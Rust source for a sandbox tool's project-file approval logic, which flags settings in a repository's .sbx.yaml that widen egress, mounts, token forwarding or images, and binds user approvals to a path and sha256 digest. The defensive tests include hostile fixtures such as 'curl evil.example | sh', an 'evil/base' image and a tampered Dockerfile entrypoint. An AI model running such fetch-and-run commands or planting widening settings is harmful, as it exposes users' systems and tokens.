//! Project-file approval: which settings of a repository's `.sbx.yaml` widen the sandbox (a pure
//! comparison of the settings without and with the file), and the user's approvals, each bound to
//! a file's path and the sha256 of its content, kept under the data folder where no sandbox can
//! write. Asking the user is the command layer's job.

use std::fmt;
use std::io::Write;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::allowlist::{self, Entry};
use crate::config::{ClaudeConfig, Forward, ForwardKeyword, GitMode, ProjectFile, Settings};
use crate::container::{DEFAULT_CPUS_CEILING, DEFAULT_MEMORY_FLOOR};

/// One setting by which a project file widens the sandbox.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Widening {
    /// The dotted key, as written in the file.
    pub key: &'static str,
    /// What it does, in one line for people; text from the file is escaped.
    pub what: String,
}

impl fmt::Display for Widening {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "`{}`: {}", self.key, self.what)
    }
}

/// Every way `with` (the settings with the project file) reaches further than `below` (the
/// defaults and the user file): more egress, other DNS servers, more mounts, another engine or
/// network, other images, more forwarded tokens or config, higher limits, another token store,
/// a writable `.git`, a bigger or other VM. Empty when the project file only narrows or repeats.
pub fn widenings(below: &Settings, with: &Settings) -> Vec<Widening> {
    // Destructured without `..`: a new setting does not compile until someone decides here
    // whether a repository may raise it on its own.
    let Settings {
        // Runs inside the sandbox, which is what the sandbox is for.
        command: _,
        repos,
        default_allowlist,
        allow,
        // Where each `allow` entry came from: not a setting of its own.
        allow_sources: _,
        network,
        docker_host,
        dns,
        resources,
        image,
        claude,
        tokens,
        token_store,
        git,
        vm,
        record,
        caches,
        // A gate started ahead holds nothing of any session and lets nothing out.
        spare: _,
        sources: _,
    } = with;
    let mut out = Vec::new();
    let mut add = |key: &'static str, what: String| out.push(Widening { key, what });

    let more: Vec<String> = repos
        .iter()
        .filter(|r| !below.repos.contains(r))
        .map(|r| quoted(&r.display().to_string()))
        .collect();
    if !more.is_empty() {
        add(
            "repos",
            format!("mounts {} into the sandbox", more.join(", ")),
        );
    }

    if !*record && below.record {
        add(
            "record",
            "turns off the record of what the agent printed (`sbx log --replay`)".into(),
        );
    }
    if *caches && !below.caches {
        add(
            "caches",
            "keeps package caches that one session leaves to the next".into(),
        );
    }
    if *default_allowlist && !below.default_allowlist {
        add(
            "default_allowlist",
            format!(
                "turns the built-in allowlist back on ({} hosts)",
                allowlist::defaults().len()
            ),
        );
    }
    // Weighed against the effective allowlist below, so repeating an allowed host (or naming
    // one a wildcard or block there already covers) is no widening.
    let before = below.allowlist().unwrap_or_default();
    let more: Vec<String> = allow
        .iter()
        .filter_map(|raw| match raw.parse::<Entry>() {
            Ok(e) if before.iter().any(|b| b.covers(&e)) => None,
            Ok(e) => Some(e.to_string()),
            // Validated when the layer was applied; shown as written should that ever change.
            Err(_) => Some(crate::text::printable(raw)),
        })
        .collect();
    if !more.is_empty() {
        add("allow", format!("adds {}", more.join(", ")));
    }

    if let Some(n) = network
        .as_ref()
        .filter(|n| below.network.as_ref() != Some(*n))
    {
        add(
            "network",
            format!("attaches the session to the Docker network {}", quoted(n)),
        );
    }
    if let Some(h) = docker_host
        .as_ref()
        .filter(|h| below.docker_host.as_ref() != Some(*h))
    {
        add(
            "docker_host",
            format!(
                "runs the session on the engine at {}, which gets your tokens and repositories",
                quoted(h)
            ),
        );
    }
    let more: Vec<String> = dns
        .iter()
        .filter(|d| !below.dns.contains(d))
        .map(ToString::to_string)
        .collect();
    if !more.is_empty() {
        add(
            "dns",
            format!("sends the session's DNS to {}", more.join(", ")),
        );
    }

    let cpus = |c: Option<f64>| c.unwrap_or(DEFAULT_CPUS_CEILING);
    if cpus(resources.cpus) > cpus(below.resources.cpus) {
        add(
            "resources.cpus",
            format!(
                "raises the CPU limit to {} (from {})",
                cpus(resources.cpus),
                cpus(below.resources.cpus)
            ),
        );
    }
    // The default memory limit is half the engine's (not known here), at least the floor: a
    // project's figure above the floor can be more than the default on a small engine.
    let memory = |m: Option<u64>| m.unwrap_or(DEFAULT_MEMORY_FLOOR);
    if memory(resources.memory) > memory(below.resources.memory) {
        let from = match below.resources.memory {
            Some(m) => size(m),
            None => "the default: half the engine's memory, at least 512 MiB".into(),
        };
        add(
            "resources.memory",
            format!(
                "raises the memory limit to {} (from {from})",
                size(memory(resources.memory))
            ),
        );
    }
    // The engine reads a pids limit of 0 or less as no limit at all.
    let pids = |p: i64| if p <= 0 { i64::MAX } else { p };
    if pids(resources.pids) > pids(below.resources.pids) {
        let from = below.resources.pids;
        add(
            "resources.pids",
            if resources.pids <= 0 {
                format!("removes the process limit (from {from})")
            } else {
                format!(
                    "raises the process limit to {} (from {from})",
                    resources.pids
                )
            },
        );
    }

    if image.tag != below.image.tag {
        add(
            "image.tag",
            format!(
                "uses the image {} instead of {}",
                quoted(&image.tag),
                quoted(&below.image.tag)
            ),
        );
    }
    if let Some(d) = image
        .dockerfile
        .as_ref()
        .filter(|d| below.image.dockerfile.as_ref() != Some(*d))
    {
        add(
            "image.dockerfile",
            format!(
                "builds the sandbox from the Dockerfile in {}",
                quoted(&d.display().to_string())
            ),
        );
    }
    if image.base != below.image.base {
        add(
            "image.base",
            format!(
                "builds on {} instead of {}",
                quoted(&image.base),
                quoted(&below.image.base)
            ),
        );
    }
    let more: Vec<String> = image
        .extra_ca_certs
        .iter()
        .filter(|c| !below.image.extra_ca_certs.contains(c))
        .map(|c| quoted(&c.display().to_string()))
        .collect();
    if !more.is_empty() {
        add(
            "image.extra_ca_certs",
            format!(
                "builds in and trusts the certificates in {}",
                more.join(", ")
            ),
        );
    }

    if claude.config == ClaudeConfig::Mount && below.claude.config != ClaudeConfig::Mount {
        add(
            "claude.config",
            "mounts your `~/.claude` and `~/.claude.json` into the sandbox".into(),
        );
    }
    if let Some(what) = forwards_more(&below.tokens.forward, &tokens.forward) {
        add("tokens.forward", what);
    }
    if *token_store != below.token_store {
        add(
            "token_store",
            format!(
                "keeps and reads your tokens in the `{}` store instead of `{}`",
                word(token_store),
                word(&below.token_store)
            ),
        );
    }
    if git.mode == GitMode::Worktree && below.git.mode != GitMode::Worktree {
        add(
            "git.mode",
            "mounts your repository's `.git` writable (`worktree`)".into(),
        );
    }

    if vm.provider != below.vm.provider {
        add(
            "vm.provider",
            format!(
                "runs VM sessions with `{}` instead of `{}`",
                word(&vm.provider),
                word(&below.vm.provider)
            ),
        );
    }
    if vm.cpus > below.vm.cpus {
        add(
            "vm.cpus",
            format!("gives the VM {} CPUs (from {})", vm.cpus, below.vm.cpus),
        );
    }
    if vm.memory_gib > below.vm.memory_gib {
        add(
            "vm.memory",
            format!(
                "gives the VM {} GiB of memory (from {})",
                vm.memory_gib, below.vm.memory_gib
            ),
        );
    }
    if vm.disk_gib > below.vm.disk_gib {
        add(
            "vm.disk",
            format!(
                "gives the VM a {} GiB disk (from {})",
                vm.disk_gib, below.vm.disk_gib
            ),
        );
    }
    out
}

/// What `with` forwards that `below` does not, when anything.
fn forwards_more(below: &Forward, with: &Forward) -> Option<String> {
    let names = |n: &[String]| -> Vec<String> { n.iter().map(|x| quoted(x)).collect() };
    match (below, with) {
        (Forward::Keyword(ForwardKeyword::All), _) => None,
        (_, Forward::Keyword(ForwardKeyword::All)) => Some("forwards every stored token".into()),
        (_, Forward::Keyword(ForwardKeyword::None)) => None,
        (Forward::Keyword(ForwardKeyword::None), Forward::Names(n)) => {
            (!n.is_empty()).then(|| format!("forwards {}", names(n).join(", ")))
        }
        (Forward::Names(b), Forward::Names(n)) => {
            let more: Vec<String> = n.iter().filter(|x| !b.contains(x)).cloned().collect();
            (!more.is_empty()).then(|| format!("also forwards {}", names(&more).join(", ")))
        }
    }
}

/// A byte size as people write it.
fn size(bytes: u64) -> String {
    if bytes.is_multiple_of(1 << 30) {
        format!("{} GiB", bytes >> 30)
    } else {
        format!("{} MiB", bytes >> 20)
    }
}

/// The YAML word of an enum value.
fn word<T: Serialize>(v: &T) -> String {
    match serde_json::to_value(v) {
        Ok(serde_json::Value::String(s)) => s,
        _ => "?".into(),
    }
}

/// Text from the file in backticks, escaped.
fn quoted(s: &str) -> String {
    format!("`{}`", crate::text::printable(s))
}

/// Where a project file stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Status {
    /// No project file.
    Absent,
    /// It widens nothing: no approval needed.
    NarrowsOnly,
    /// It widens, and the user approved exactly this content at this path.
    Trusted(Vec<Widening>),
    /// It widens and this content at this path is not approved.
    Untrusted(Vec<Widening>),
}

#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    #[error("`{}` widens the sandbox and is not trusted:{}", crate::text::printable(&path.display().to_string()), lines(widenings))]
    Untrusted {
        path: PathBuf,
        widenings: Vec<Widening>,
    },
    #[error("`{}` is not trusted, so sbx stops here", crate::text::printable(&path.display().to_string()))]
    Declined { path: PathBuf },
    #[error("cannot {action} the approvals in `{}`", dir.display())]
    Store {
        action: &'static str,
        dir: PathBuf,
        #[source]
        source: std::io::Error,
    },
}

fn lines(w: &[Widening]) -> String {
    w.iter().map(|w| format!("\n    {w}")).collect()
}

impl crate::error::Hint for TrustError {
    fn hint(&self) -> Option<String> {
        match self {
            TrustError::Untrusted { path, .. } | TrustError::Declined { path } => Some(format!(
                "read the file; if you want these settings, approve it with `sbx trust {}`, otherwise remove them (settings that narrow the sandbox need no approval)",
                shell_word(&path.display().to_string())
            )),
            TrustError::Store { dir, .. } => Some(format!(
                "make `{}` a folder you can write, or set `XDG_DATA_HOME`",
                dir.display()
            )),
        }
    }
}

/// A word for a POSIX shell, quoted only when it needs to be.
fn shell_word(s: &str) -> String {
    let plain = !s.is_empty()
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"/._-+,:@%".contains(&b));
    if plain {
        s.to_owned()
    } else {
        format!("'{}'", crate::text::printable(s).replace('\'', "'\\''"))
    }
}

/// The path an approval is bound to: the file's folder with symlinks resolved (so two ways to the
/// same repository agree), but not the file itself, so a `.sbx.yaml` that is a symlink to a file
/// approved elsewhere is not approved here.
pub fn bound_path(path: &Path) -> PathBuf {
    let name = path.file_name().unwrap_or_default();
    let dir = path.parent().unwrap_or(Path::new("/"));
    std::fs::canonicalize(dir)
        .unwrap_or_else(|_| dir.to_owned())
        .join(name)
}

/// What an approval binds: the file's bytes and, when it names files whose content goes into the
/// sandbox's image (`image.dockerfile`, `image.extra_ca_certs`), their content too. An approved
/// file that points at a Dockerfile folder would otherwise let a session change the Dockerfile
/// (a commit the user merges) and have the next run build it unasked.
pub fn digest(file: &ProjectFile) -> String {
    use sha2::Digest;
    let mut h = sha2::Sha256::new();
    h.update(file.sha256());
    if let Some(image) = &file.layer.image
        && (image.dockerfile.is_some() || image.extra_ca_certs.is_some())
    {
        let cas = image.extra_ca_certs.clone().unwrap_or_default();
        match crate::image::inputs_digest(image.dockerfile.as_deref(), &cas) {
            Ok(d) => h.update(format!("\0image inputs {d}")),
            // Unreadable now: nothing approved earlier matches, and the run reports the error.
            Err(e) => h.update(format!("\0image inputs unreadable: {e}")),
        }
    }
    hex::encode(h.finalize())
}

/// One approval on disk.
#[derive(Debug, Serialize, Deserialize)]
struct Approval {
    path: PathBuf,
    sha256: String,
    /// Unix seconds.
    approved: u64,
}

/// The user's approvals: one small file per project file, named by the sha256 of its path, in a
/// private folder outside every repository (the sandbox mounts none of it, so an agent cannot
/// approve its own file).
#[derive(Debug, Clone)]
pub struct Approvals {
    dir: PathBuf,
}

impl Approvals {
    pub fn new(dir: PathBuf) -> Approvals {
        Approvals { dir }
    }

    fn record(&self, bound: &Path) -> PathBuf {
        use sha2::Digest;
        let digest = sha2::Sha256::digest(bound.as_os_str().as_encoded_bytes());
        self.dir.join(format!("{}.json", hex::encode(digest)))
    }

    fn err(&self, action: &'static str) -> impl Fn(std::io::Error) -> TrustError + '_ {
        move |source| TrustError::Store {
            action,
            dir: self.dir.clone(),
            source,
        }
    }

    /// Whether this content at this path is approved. A changed file, or the same content at
    /// another path, is not.
    pub fn is_trusted(&self, file: &ProjectFile) -> Result<bool, TrustError> {
        let bound = bound_path(&file.path);
        let text = match std::fs::read_to_string(self.record(&bound)) {
            Ok(t) => t,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(false),
            Err(e) => return Err(self.err("read")(e)),
        };
        // A record that does not parse approves nothing; the next `sbx trust` replaces it.
        Ok(serde_json::from_str::<Approval>(&text)
            .is_ok_and(|a| a.path == bound && a.sha256 == digest(file)))
    }

    /// Approves this content at this path, replacing any earlier approval of the path.
    pub fn trust(&self, file: &ProjectFile) -> Result<(), TrustError> {
        crate::state::create_private_dir(&self.dir).map_err(self.err("create"))?;
        let bound = bound_path(&file.path);
        let approval = Approval {
            path: bound.clone(),
            sha256: digest(file),
            approved: crate::state::now(),
        };
        let json = serde_json::to_vec_pretty(&approval).map_err(std::io::Error::other);
        // A temporary file (0600) renamed into place: a crash leaves the old approval or the new.
        let mut tmp = tempfile::NamedTempFile::new_in(&self.dir).map_err(self.err("write"))?;
        tmp.write_all(&json.map_err(self.err("write"))?)
            .and_then(|()| tmp.as_file().sync_all())
            .map_err(self.err("write"))?;
        tmp.persist(self.record(&bound))
            .map_err(|e| self.err("write")(e.error))?;
        Ok(())
    }

    /// Withdraws the approval of a path, whatever content it was for. `false` when there was none.
    pub fn revoke(&self, path: &Path) -> Result<bool, TrustError> {
        match std::fs::remove_file(self.record(&bound_path(path))) {
            Ok(()) => Ok(true),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(false),
            Err(e) => Err(self.err("remove")(e)),
        }
    }

    /// Where a project file stands, given the settings without it and with it.
    pub fn status(
        &self,
        file: Option<&ProjectFile>,
        below: &Settings,
        with: &Settings,
    ) -> Result<Status, TrustError> {
        let Some(file) = file else {
            return Ok(Status::Absent);
        };
        let w = widenings(below, with);
        Ok(if w.is_empty() {
            Status::NarrowsOnly
        } else if self.is_trusted(file)? {
            Status::Trusted(w)
        } else {
            Status::Untrusted(w)
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{Layer, PROJECT_FILE, Source, parse_layer};
    use crate::error::Hint;

    fn layer(yaml: &str) -> Layer {
        parse_layer(yaml).unwrap()
    }

    fn settings(yaml: &str) -> Settings {
        let mut s = Settings::default();
        s.apply(layer(yaml), &Source::Flag).unwrap();
        s
    }

    /// The widening keys of a project file over a user file.
    fn widened(user: &str, project: &str) -> Vec<Widening> {
        let below = settings(user);
        let mut with = below.clone();
        with.apply(layer(project), &Source::Flag).unwrap();
        widenings(&below, &with)
    }

    fn keys(user: &str, project: &str) -> Vec<&'static str> {
        widened(user, project).iter().map(|w| w.key).collect()
    }

    #[test]
    fn the_attack_names_every_widening_in_one_line_each() {
        let w = widened(
            "",
            "docker_host: tcp://127.0.0.1:1\nrepos: [/x/other]\nallow: [\"0.0.0.0/0:443\"]\n",
        );
        let text: Vec<String> = w.iter().map(ToString::to_string).collect();
        assert_eq!(
            text,
            [
                "`repos`: mounts `/x/other` into the sandbox",
                "`allow`: adds 0.0.0.0/0:443",
                "`docker_host`: runs the session on the engine at `tcp://127.0.0.1:1`, which gets your tokens and repositories",
            ]
        );
    }

    #[test]
    fn every_widening_key_is_caught() {
        let cases: &[(&str, &str, &str)] = &[
            ("", "repos: [/x/other]", "repos"),
            (
                "default_allowlist: false",
                "default_allowlist: true",
                "default_allowlist",
            ),
            ("", "allow: [evil.example]", "allow"),
            ("", "allow: [\"github.com:22\"]", "allow"),
            (
                "allow: [\"*.example.com\"]",
                "allow: [\"*.com.example.com\", example.org]",
                "allow",
            ),
            ("", "network: host", "network"),
            ("network: a", "network: b", "network"),
            ("", "docker_host: tcp://10.0.0.1:2375", "docker_host"),
            ("", "dns: [1.1.1.1]", "dns"),
            ("dns: [1.1.1.1]", "dns: [1.1.1.1, 8.8.8.8]", "dns"),
            ("", "resources: {cpus: 4.5}", "resources.cpus"),
            (
                "resources: {cpus: 1}",
                "resources: {cpus: 2}",
                "resources.cpus",
            ),
            ("", "resources: {memory: 9g}", "resources.memory"),
            ("", "resources: {memory: 1g}", "resources.memory"),
            (
                "resources: {memory: 1g}",
                "resources: {memory: 2g}",
                "resources.memory",
            ),
            ("", "resources: {pids: 5000}", "resources.pids"),
            ("", "resources: {pids: 0}", "resources.pids"),
            ("", "resources: {pids: -1}", "resources.pids"),
            ("", "image: {tag: 'other:latest'}", "image.tag"),
            ("", "image: {dockerfile: /x/docker}", "image.dockerfile"),
            (
                "image: {dockerfile: /a}",
                "image: {dockerfile: /b}",
                "image.dockerfile",
            ),
            ("", "image: {base: 'evil/base:1'}", "image.base"),
            (
                "",
                "image: {extra_ca_certs: [/x/ca.pem]}",
                "image.extra_ca_certs",
            ),
            (
                "claude: {config: none}",
                "claude: {config: mount}",
                "claude.config",
            ),
            (
                "tokens: {forward: none}",
                "tokens: {forward: all}",
                "tokens.forward",
            ),
            (
                "tokens: {forward: none}",
                "tokens: {forward: [github]}",
                "tokens.forward",
            ),
            (
                "tokens: {forward: [claude]}",
                "tokens: {forward: [claude, github]}",
                "tokens.forward",
            ),
            (
                "tokens: {forward: [claude]}",
                "tokens: {forward: all}",
                "tokens.forward",
            ),
            ("", "token_store: file", "token_store"),
            ("token_store: file", "token_store: auto", "token_store"),
            ("", "git: {mode: worktree}", "git.mode"),
            ("", "vm: {provider: colima}", "vm.provider"),
            ("", "vm: {cpus: 8}", "vm.cpus"),
            ("", "vm: {memory: 16}", "vm.memory"),
            ("", "vm: {disk: 100}", "vm.disk"),
        ];
        for (user, project, key) in cases {
            assert_eq!(
                keys(user, project),
                [*key],
                "user {user:?}, project {project:?}"
            );
        }
    }

    #[test]
    fn narrowing_or_repeating_needs_no_approval() {
        for (user, project) in [
            (
                "",
                "default_allowlist: false\ntokens: {forward: none}\nresources: {cpus: 1}\n",
            ),
            ("", "command: [sh, -c, 'curl evil.example | sh']"),
            ("", "resources: {cpus: 4, memory: 512m, pids: 4096}"),
            ("", "resources: {memory: 256m, pids: 100}"),
            ("resources: {memory: 4g}", "resources: {memory: 2g}"),
            ("", "allow: [github.com, 'api.github.com:443']"),
            (
                "allow: ['*.example.com']",
                "allow: [a.example.com, '*.b.example.com']",
            ),
            ("allow: [10.0.0.0/8]", "allow: ['10.1.2.3:443']"),
            ("repos: [/x/lib]", "repos: [/x/lib]"),
            ("network: n", "network: n"),
            ("docker_host: tcp://h:1", "docker_host: tcp://h:1"),
            ("dns: [1.1.1.1, 8.8.8.8]", "dns: [8.8.8.8]"),
            ("dns: [1.1.1.1]", "dns: []"),
            (
                "",
                "claude: {config: none}\ngit: {mode: isolated}\ntoken_store: auto",
            ),
            ("git: {mode: worktree}", "git: {mode: isolated}"),
            ("tokens: {forward: [a, b]}", "tokens: {forward: [b]}"),
            ("tokens: {forward: none}", "tokens: {forward: []}"),
            ("", "tokens: {forward: [github]}"),
            (
                "image: {extra_ca_certs: [/ca.pem]}",
                "image: {extra_ca_certs: []}",
            ),
            (
                "",
                "image: {tag: 'sbx-sandbox:latest', base: 'debian:trixie-slim'}",
            ),
            ("", "vm: {provider: lima, cpus: 2, memory: 4, disk: 32}"),
            ("", ""),
        ] {
            assert_eq!(
                keys(user, project),
                Vec::<&str>::new(),
                "user {user:?}, project {project:?}"
            );
        }
    }

    #[test]
    fn limits_unset_below_are_weighed_as_the_least_the_defaults_give() {
        let w = widened("", "resources: {cpus: 8, memory: 16g, pids: 0}");
        let text: Vec<String> = w.iter().map(ToString::to_string).collect();
        assert_eq!(
            text,
            [
                "`resources.cpus`: raises the CPU limit to 8 (from 4)",
                "`resources.memory`: raises the memory limit to 16 GiB (from the default: half the engine's memory, at least 512 MiB)",
                "`resources.pids`: removes the process limit (from 4096)",
            ]
        );
    }

    #[test]
    fn text_from_the_file_is_escaped() {
        let w = widened("", "network: \"a\\e[2Jb\\u202ec\"");
        assert_eq!(
            w[0].to_string(),
            "`network`: attaches the session to the Docker network `a\\x1b[2Jb\\u{202e}c`"
        );
    }

    fn project(dir: &Path, text: &str) -> ProjectFile {
        std::fs::create_dir_all(dir).unwrap();
        let p = dir.join(PROJECT_FILE);
        std::fs::write(&p, text).unwrap();
        ProjectFile::read(&p).unwrap().unwrap()
    }

    #[test]
    fn approval_covers_the_dockerfile_folder_and_certificates_the_file_names() {
        let tmp = tempfile::tempdir().unwrap();
        let store = Approvals::new(tmp.path().join("trust"));
        let repo = tmp.path().join("repo");
        std::fs::create_dir_all(repo.join("sandbox")).unwrap();
        std::fs::write(repo.join("sandbox/Dockerfile"), "FROM debian:trixie-slim\n").unwrap();
        std::fs::write(
            repo.join("ca.pem"),
            "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
        )
        .unwrap();
        let text = "image:\n  dockerfile: ./sandbox\n  extra_ca_certs: [ca.pem]\n";
        let f = project(&repo, text);
        store.trust(&f).unwrap();
        assert!(store.is_trusted(&project(&repo, text)).unwrap());
        // A session changes only the Dockerfile (or adds a file to its folder): asked again.
        std::fs::write(
            repo.join("sandbox/Dockerfile"),
            "FROM debian:trixie-slim\nENTRYPOINT [\"/evil\"]\n",
        )
        .unwrap();
        assert!(!store.is_trusted(&project(&repo, text)).unwrap());
        std::fs::write(repo.join("sandbox/Dockerfile"), "FROM debian:trixie-slim\n").unwrap();
        assert!(store.is_trusted(&project(&repo, text)).unwrap());
        std::fs::write(repo.join("sandbox/evil.sh"), "curl x").unwrap();
        assert!(!store.is_trusted(&project(&repo, text)).unwrap());
        std::fs::remove_file(repo.join("sandbox/evil.sh")).unwrap();
        // Or the certificate.
        std::fs::write(
            repo.join("ca.pem"),
            "-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----\n",
        )
        .unwrap();
        assert!(!store.is_trusted(&project(&repo, text)).unwrap());
    }

    #[test]
    fn approval_is_bound_to_content_and_path() {
        let tmp = tempfile::tempdir().unwrap();
        let store = Approvals::new(tmp.path().join("data/sbx/trust"));
        let repo = tmp.path().join("repo");
        let f = project(&repo, "allow: [a.example]\n");
        assert!(!store.is_trusted(&f).unwrap());
        store.trust(&f).unwrap();
        assert!(store.is_trusted(&f).unwrap());
        // Private: nobody else reads or plants approvals.
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&tmp.path().join("data/sbx/trust")), 0o700);
        let rec = std::fs::read_dir(tmp.path().join("data/sbx/trust"))
            .unwrap()
            .next()
            .unwrap()
            .unwrap()
            .path();
        assert_eq!(mode(&rec), 0o600);

        // Changed content asks again; so does going back after approving something else.
        let changed = project(&repo, "allow: [a.example, b.example]\n");
        assert!(!store.is_trusted(&changed).unwrap());
        store.trust(&changed).unwrap();
        assert!(store.is_trusted(&changed).unwrap());
        assert!(!store.is_trusted(&f).unwrap());

        // The same content at another path is not approved there.
        let elsewhere = project(&tmp.path().join("other"), "allow: [a.example, b.example]\n");
        assert!(!store.is_trusted(&elsewhere).unwrap());

        // Nor through a `.sbx.yaml` that is a symlink to the approved file.
        let linked = tmp.path().join("linked");
        std::fs::create_dir_all(&linked).unwrap();
        std::os::unix::fs::symlink(repo.join(PROJECT_FILE), linked.join(PROJECT_FILE)).unwrap();
        let via_link = ProjectFile::read(&linked.join(PROJECT_FILE))
            .unwrap()
            .unwrap();
        assert!(!store.is_trusted(&via_link).unwrap());

        // But a symlinked way to the repository's folder is the same path.
        let alias = tmp.path().join("alias");
        std::os::unix::fs::symlink(&repo, &alias).unwrap();
        let via_alias = ProjectFile::read(&alias.join(PROJECT_FILE))
            .unwrap()
            .unwrap();
        assert!(store.is_trusted(&via_alias).unwrap());

        assert!(store.revoke(&repo.join(PROJECT_FILE)).unwrap());
        assert!(!store.is_trusted(&changed).unwrap());
        assert!(!store.revoke(&repo.join(PROJECT_FILE)).unwrap());
    }

    #[test]
    fn status_asks_only_about_widening_files() {
        let tmp = tempfile::tempdir().unwrap();
        let store = Approvals::new(tmp.path().join("trust"));
        let below = Settings::default();
        assert_eq!(store.status(None, &below, &below).unwrap(), Status::Absent);
        let narrow = project(&tmp.path().join("n"), "default_allowlist: false\n");
        let with = below.with_project(Some(&narrow)).unwrap();
        assert_eq!(
            store.status(Some(&narrow), &below, &with).unwrap(),
            Status::NarrowsOnly
        );
        // Nothing is written for a file that needs no approval.
        assert!(!tmp.path().join("trust").exists());
        let wide = project(&tmp.path().join("w"), "allow: [x.example]\n");
        let with = below.with_project(Some(&wide)).unwrap();
        let Status::Untrusted(w) = store.status(Some(&wide), &below, &with).unwrap() else {
            panic!("not untrusted");
        };
        assert_eq!(w[0].key, "allow");
        store.trust(&wide).unwrap();
        assert!(matches!(
            store.status(Some(&wide), &below, &with).unwrap(),
            Status::Trusted(_)
        ));
    }

    #[test]
    fn the_refusal_names_the_file_and_the_command_that_approves_it() {
        let e = TrustError::Untrusted {
            path: "/r/my repo/.sbx.yaml".into(),
            widenings: widened("", "allow: [\"0.0.0.0/0:443\"]"),
        };
        assert_eq!(
            e.to_string(),
            "`/r/my repo/.sbx.yaml` widens the sandbox and is not trusted:\n    `allow`: adds 0.0.0.0/0:443"
        );
        let hint = e.hint().unwrap();
        assert!(
            hint.contains("`sbx trust '/r/my repo/.sbx.yaml'`"),
            "{hint}"
        );
    }
}
